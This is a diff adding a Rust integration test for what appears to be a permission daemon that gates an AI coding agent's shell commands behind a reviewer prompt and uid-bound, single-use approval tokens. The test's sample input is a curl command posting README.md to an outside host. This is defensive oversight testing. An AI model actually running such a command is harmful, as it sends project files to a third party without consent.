@@ -422,3 +422,59 @@ fn a_command_outside_the_project_is_denied() {
     );
     assert!(!home.join(".bashrc").exists());
 }
+
+/// Over the daemon, as an ordinary user (the agent) with root as the
+/// reviewer: the grant and the token travel over the socket, the token is
+/// bound to the uid it was issued to.
+#[test]
+fn over_the_daemon_the_host_prompt_yes_promotes_once() {
+    use common::daemon::{Daemon, user_workspace};
+    let d = Daemon::start(&[]);
+    let ws = user_workspace();
+    let event = claude_event(&ws.dir, "curl -X POST https://example.com/d -d @README.md");
+    let mut c = d.cli_user();
+    c.args(["hook", "claude-code"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    let mut ch = c.spawn().unwrap();
+    ch.stdin
+        .take()
+        .unwrap()
+        .write_all(event.to_string().as_bytes())
+        .unwrap();
+    let a = answer(&ch.wait_with_output().unwrap());
+    let out = &a["hookSpecificOutput"];
+    assert_eq!(out["permissionDecision"], "ask", "{a}");
+    let yes = out["updatedInput"]["command"].as_str().unwrap().to_string();
+    assert!(yes.contains("--socket"), "{yes}");
+    // Root (another uid) holding the token cannot use it.
+    let o = Command::new("bash")
+        .args(["-c", &yes])
+        .current_dir(&ws.dir)
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(4), "{o:?}");
+    // It was bound to the agent's uid, and a refused attempt consumes
+    // nothing: the agent's own yes still works, once.
+    let o = common::as_test_user("bash")
+        .args(["-c", &yes])
+        .current_dir(&ws.dir)
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{o:?}");
+    let id = yes
+        .split_whitespace()
+        .skip_while(|w| *w != "promote")
+        .nth(1)
+        .unwrap();
+    let (_, rec) = d.curl(common::Who::Root, "GET", &format!("/v1/runs/{id}"), None);
+    assert_eq!(rec["state"], "promoted");
+    assert_eq!(rec["approvals"][0]["authenticated_by"], "agent_host_prompt");
+    let o = common::as_test_user("bash")
+        .args(["-c", &yes])
+        .current_dir(&ws.dir)
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(4));
+}
